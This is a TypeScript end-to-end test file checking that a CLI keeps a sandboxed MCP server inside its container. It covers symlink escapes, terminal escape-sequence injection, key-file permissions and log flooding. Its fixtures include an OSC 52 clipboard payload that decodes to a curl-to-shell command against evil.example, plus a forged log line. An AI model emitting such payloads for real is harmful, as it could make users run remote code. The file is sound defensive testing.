/**
 * The server's reach beyond its container, through the CLI and the engine
 * (issue 27): host files through a packed npm folder, the operator's terminal,
 * the host's disk through the container log, and a KEY_FILE readable inside.
 * One image of test/fixtures/noisy-server, built from a folder with a bundled
 * dependency, serves every step; the steps run in order on one instance.
 */
import assert from 'node:assert/strict';
import {
  chmodSync,
  chownSync,
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
  appendFileSync,
} from 'node:fs';
import { X509Certificate } from 'node:crypto';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { execa } from 'execa';
import { callJson, cli, cliBackground, connectClient, createInstance, docker, projectDir, removeInstance, type Instance } from './harness.js';

const NAME = 'mcps-e2e-reach';
const INSIDE_MARKER = 'REACH-INSIDE-MARKER-5d1e';
const OUTSIDE_MARKER = 'REACH-OUTSIDE-MARKER-c07a';
/** What a terminal would act on: ESC, BEL, a CR without its LF, the one-byte CSI/OSC. */
// eslint-disable-next-line no-control-regex -- the characters under test
const ACTIVE = /[\x1b\x07\x9b\x9d]|\r(?!\n)/;
/** The fixture's attacks as the CLI must print them. */
const OSC52_SHOWN = '\\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\\u0007';
const FORGED_SHOWN = '\\u000d[gateway] public URL: https://evil.example/mcp';
const TOOL_SHOWN = 'title\\u001b]0;pwned\\u0007\\u009b2J';

const root = mkdtempSync(join(tmpdir(), 'mcps-e2e-reach-'));
/** A host folder the server's repository must never reach (it stands for ~/.ssh). */
const outside = join(root, 'home-ssh');

/** The fixture server as a cloned repository: node_modules/x bundled, linked to `bundledTarget`; node_modules/y, not bundled, links outside. */
function serverFolder(name: string, bundledTarget: string): string {
  const folder = join(root, name);
  const fixture = join(projectDir, 'test', 'fixtures', 'noisy-server');
  mkdirSync(join(folder, 'node_modules'), { recursive: true });
  copyFileSync(join(fixture, 'index.js'), join(folder, 'index.js'));
  const manifest = JSON.parse(readFileSync(join(fixture, 'package.json'), 'utf8')) as Record<string, unknown>;
  writeFileSync(join(folder, 'package.json'), JSON.stringify({ ...manifest, dependencies: { x: '1.0.0' }, bundleDependencies: ['x'] }, null, 2));
  mkdirSync(join(folder, 'vendor', 'x'), { recursive: true });
  writeFileSync(join(folder, 'vendor', 'x', 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', main: 'lib.js' }));
  writeFileSync(join(folder, 'vendor', 'x', 'lib.js'), `module.exports = '${INSIDE_MARKER}';\n`);
  symlinkSync(bundledTarget, join(folder, 'node_modules', 'x'));
  symlinkSync(outside, join(folder, 'node_modules', 'y'));
  return folder;
}

/** How many times `text` occurs anywhere in the image's filesystem (docker export of a created, never started container). */
async function countInImage(image: string, text: string): Promise<number> {
  const created = await docker(['create', image]);
  assert.equal(created.exitCode, 0, created.stderr);
  try {
    const counted = await execa(
      'bash',
      ['-c', 'set -o pipefail; docker export "$1" | grep -a -F -c -- "$2" || [ $? = 1 ]', 'count', created.stdout.trim(), text],
      {
        reject: false,
      },
    );
    assert.equal(counted.exitCode, 0, counted.stderr);
    return Number(counted.stdout.trim() || '0');
  } finally {
    await docker(['rm', '-f', created.stdout.trim()]);
  }
}

function printsNoControl(output: string, what: string) {
  const at = output.search(ACTIVE);
  assert.equal(at, -1, `${what} printed a control character at ${at}: ${JSON.stringify(output.slice(Math.max(0, at - 40), at + 40))}`);
}

describe('the server reaches no further than its container (issue 27)', { timeout: 1_200_000 }, () => {
  let instance: Instance;
  let keyFile: string;
  let certFile: string;

  before(async () => {
    mkdirSync(outside);
    writeFileSync(join(outside, 'id_rsa'), `${OUTSIDE_MARKER}\n`);
    // The test CA's leaf; its key 0600, owned by the server's uid on the host: only the folder it is mounted in can keep it from the server.
    const tls = join(root, 'tls');
    mkdirSync(tls);
    certFile = join(tls, 'leaf.pem');
    keyFile = join(tls, 'leaf-key.pem');
    copyFileSync(join(projectDir, 'test', 'fixtures', 'tls', 'leaf.pem'), certFile);
    copyFileSync(join(projectDir, 'test', 'fixtures', 'tls', 'leaf-key.pem'), keyFile);
    chmodSync(keyFile, 0o600);
    if (process.getuid?.() === 0) chownSync(keyFile, 10002, 10002);
    instance = await createInstance(NAME, { MCP_SERVER: serverFolder('server', '../vendor/x'), CERT_FILE: certFile, KEY_FILE: keyFile });
  });

  after(async () => {
    await removeInstance(instance);
    await docker(['image', 'rm', '-f', `${NAME}:latest`]);
    rmSync(root, { recursive: true, force: true });
    rmSync(instance.dir, { recursive: true, force: true });
  });

  test('item 1: a bundled dependency linked outside the folder stops the build (exit 2, the link and the fix named); no image', async () => {
    const attack = await createInstance(`${NAME}-attack`, { MCP_SERVER: serverFolder('attack', outside) });
    try {
      const built = await cli(['build', '--env-file', attack.envFile]);
      assert.equal(built.exitCode, 2, built.all);
      assert.match(built.stderr, /MCP_SERVER: the folder .*attack links outside itself: node_modules\/x -> .*home-ssh/);
      assert.match(built.stderr, /replace the link with a copy of the files inside the folder, or remove its name from "bundleDependencies"/);
      assert.ok(!built.all.includes(OUTSIDE_MARKER));
      assert.notEqual((await docker(['image', 'inspect', `${NAME}-attack:latest`])).exitCode, 0, 'no image was built');
    } finally {
      rmSync(attack.dir, { recursive: true, force: true });
    }
  });

  test('item 1 control: the folder with its bundled dependency inside builds; the inside file is in the image, the outside marker nowhere', async () => {
    const built = await cli(['build', '--env-file', instance.envFile]);
    assert.equal(built.exitCode, 0, built.all);
    assert.ok((await countInImage(`${NAME}:latest`, INSIDE_MARKER)) > 0, 'the bundled dependency from inside the folder is installed');
    assert.equal(await countInImage(`${NAME}:latest`, OUTSIDE_MARKER), 0, 'the marker of the folder outside is nowhere in the image');
  });

  test("item 5: a failing build prints the install script's output with its control characters made visible (exit 1, no image)", async () => {
    // The server's install script writes an OSC 52 clipboard write and a forged line, then fails: npm shows a failed script's output.
    const folder = join(root, 'install-noise');
    mkdirSync(folder);
    copyFileSync(join(projectDir, 'test', 'fixtures', 'noisy-server', 'index.js'), join(folder, 'index.js'));
    writeFileSync(
      join(folder, 'noise.cjs'),
      "process.stderr.write('noisy install\\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\\x07\\r[gateway] public URL: https://evil.example/mcp\\n');\nprocess.exit(1);\n",
    );
    const manifest = JSON.parse(readFileSync(join(projectDir, 'test', 'fixtures', 'noisy-server', 'package.json'), 'utf8')) as Record<string, unknown>;
    writeFileSync(
      join(folder, 'package.json'),
      JSON.stringify({ ...manifest, name: 'mcp-sandbox-install-noise', files: ['index.js', 'noise.cjs'], scripts: { preinstall: 'node noise.cjs' } }),
    );
    const noisy = await createInstance(`${NAME}-install-noise`, { MCP_SERVER: folder });
    try {
      const built = await cli(['build', '--env-file', noisy.envFile]);
      assert.equal(built.exitCode, 1, built.all);
      printsNoControl(built.all, 'build');
      // Control: the script's output did reach the terminal, as text. npm itself prints ESC and BEL as ^[ and ^G,
      // but passes the bare CR that forges a line; Docker's classic builder colours the step's stderr (removed, not shown).
      assert.ok(built.all.includes(FORGED_SHOWN), built.all);
      assert.match(built.all, /npm error noisy install/);
      assert.ok(!built.all.includes('\\u001b[91m'), built.all);
      assert.notEqual((await docker(['image', 'inspect', `${NAME}-install-noise:latest`])).exitCode, 0, 'no image was built');
    } finally {
      rmSync(noisy.dir, { recursive: true, force: true });
    }
  });

  test('item 7: a KEY_FILE group or others can read is refused (exit 2, chmod 600), and nothing starts', async () => {
    const shared = join(root, 'tls', 'shared-key.pem');
    copyFileSync(keyFile, shared);
    chmodSync(shared, 0o644);
    const env = readFileSync(instance.envFile, 'utf8');
    writeFileSync(instance.envFile, env.replace(`KEY_FILE=${keyFile}`, `KEY_FILE=${shared}`));
    try {
      const refused = await cli(['start', '-d', '--env-file', instance.envFile]);
      assert.equal(refused.exitCode, 2, refused.all);
      assert.match(refused.stderr, new RegExp(`KEY_FILE ${shared.replace(/[.]/g, '\\.')} can be read by group or others \\(mode 0644\\).*chmod 600`));
      assert.equal((await docker(['ps', '--all', '--quiet', '--filter', `name=^/?${NAME}$`])).stdout, '', 'no container');
    } finally {
      writeFileSync(instance.envFile, env);
    }
  });

  test("item 5: start -d prints the server's tool names and lines with their control characters made visible", async () => {
    const started = await cli(['start', '-d', '--env-file', instance.envFile]);
    assert.equal(started.exitCode, 0, started.all);
    printsNoControl(started.all, 'start -d');
    assert.ok(started.stdout.includes(TOOL_SHOWN), `the tool name, made visible: ${started.stdout}`);
    // The 0600 key is served: nginx's prepare read it through the closed folder.
    assert.match(started.stdout, new RegExp(new X509Certificate(readFileSync(certFile)).fingerprint256));
  });

  test('item 5: logs shows the OSC 52 write and the forged gateway line as text; the raw log holds them (the attack is real)', async () => {
    const raw = await docker(['logs', NAME]);
    assert.ok(raw.stderr.includes('\x1b]52;c;') && raw.stderr.includes('\r[gateway] public URL: https://evil.example'), 'the server wrote the sequences');
    const logs = await cli(['logs', '--tail', 'all', '--env-file', instance.envFile]);
    assert.equal(logs.exitCode, 0, logs.all);
    printsNoControl(logs.all, 'logs');
    assert.ok(logs.all.includes(OSC52_SHOWN), logs.all);
    assert.ok(logs.all.includes(FORGED_SHOWN), logs.all);
    // Control: plain lines pass unchanged.
    assert.match(logs.all, /noisy: clipboard .* done\n/);
  });

  test('item 5: status --probe and status --json show the tool names without control characters; the JSON keeps the real name', async () => {
    const status = await cli(['status', '--probe']);
    printsNoControl(status.all, 'status --probe');
    assert.ok(status.stdout.includes(TOOL_SHOWN), status.stdout);
    const json = await cli(['status', '--probe', '--json']);
    printsNoControl(json.all, 'status --json');
    const rows = JSON.parse(json.stdout) as Array<{ name: string; probe?: { tools?: string[] } }>;
    assert.ok(rows.find((r) => r.name === NAME)?.probe?.tools?.includes('title\x1b]0;pwned\x07\x9b2J'), 'JSON decodes to the name as the server gave it');
  });

  test('item 7: the server cannot read the KEY_FILE mounted in its container, though it owns the file (uid 10002, mode 0600)', async () => {
    assert.equal(statSync(keyFile).mode & 0o777, 0o600);
    const client = await connectClient(instance, { certificate: readFileSync(join(projectDir, 'test', 'fixtures', 'tls', 'ca.pem'), 'utf8') });
    try {
      const readKey = async (path: string) => ((await client.callTool({ name: 'read_file', arguments: { path } })).content as Array<{ text: string }>)[0]!.text;
      assert.equal(await readKey('/etc/mcp-sandbox/user-tls/key.pem'), 'error: EACCES');
      assert.equal(await readKey('/etc/mcp-sandbox/user-tls/cert.pem'), 'error: EACCES');
      // Control: the server reads what is its to read.
      assert.match(await readKey('/opt/mcp-server/package.json'), /"dependencies"|"name"/);
    } finally {
      await client.close();
    }
  });

  test("item 4: 200 MB on stderr leave a log of at most 3 × 10 MB, found through the engine's own log path", { timeout: 600_000 }, async () => {
    const client = await connectClient(instance, { certificate: readFileSync(join(projectDir, 'test', 'fixtures', 'tls', 'ca.pem'), 'utf8') });
    try {
      assert.equal((await callJson(client, 'echo', { text: '"ok"' })) as unknown, 'ok');
      const started = Date.now();
      const result = await client.callTool({ name: 'flood', arguments: { mb: 200 } }, undefined, { timeout: 540_000 });
      assert.equal((result.content as Array<{ text: string }>)[0]!.text, 'flooded');
      console.log(`flood of 200 MB written in ${Math.round((Date.now() - started) / 1000)} s`);
    } finally {
      await client.close();
    }
    const logPath = (await docker(['inspect', '--format', '{{.LogPath}}', NAME])).stdout.trim();
    assert.ok(logPath, 'the engine names its log file');
    const files = (await execa('ls', ['-1', dirname(logPath)])).stdout.split('\n').filter((f) => join(dirname(logPath), f).startsWith(logPath));
    const total = files.reduce((sum, f) => sum + statSync(join(dirname(logPath), f)).size, 0);
    console.log(`log files ${files.join(', ')}: ${total} bytes`);
    // json-file checks the size after each message: one line over per file at most.
    assert.ok(total <= 3 * 10 * 1024 * 1024 + 3 * 64 * 1024, `the log holds ${total} bytes`);
    assert.ok(files.length >= 2, 'the flood reached the log and rotated it (the bound was met, not the flood lost)');
  });

  test("item 5: an attached start streams the server's lines with control characters made visible", async () => {
    await cli(['stop', '--env-file', instance.envFile]);
    const attached = cliBackground(['start', '--env-file', instance.envFile]);
    let output = '';
    attached.all?.on('data', (chunk: Buffer) => (output += chunk.toString()));
    const deadline = Date.now() + 120_000;
    while (!output.includes(OSC52_SHOWN) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 500));
    attached.kill('SIGINT');
    await attached;
    assert.ok(output.includes(OSC52_SHOWN), output);
    printsNoControl(output, 'attached start');
  });

  test('item 5: a server failing at start has its lines quoted with control characters made visible', async () => {
    await cli(['stop', '--env-file', instance.envFile]);
    appendFileSync(instance.envFile, 'MCP_ENV=NOISY_FAIL\nNOISY_FAIL=1\n');
    const failed = await cli(['start', '-d', '--env-file', instance.envFile]);
    assert.equal(failed.exitCode, 1, failed.all);
    assert.match(failed.stderr, /The MCP server said:/);
    assert.ok(failed.stderr.includes('failing on purpose'), failed.stderr);
    printsNoControl(failed.all, 'start -d of a failing server');
  });
});
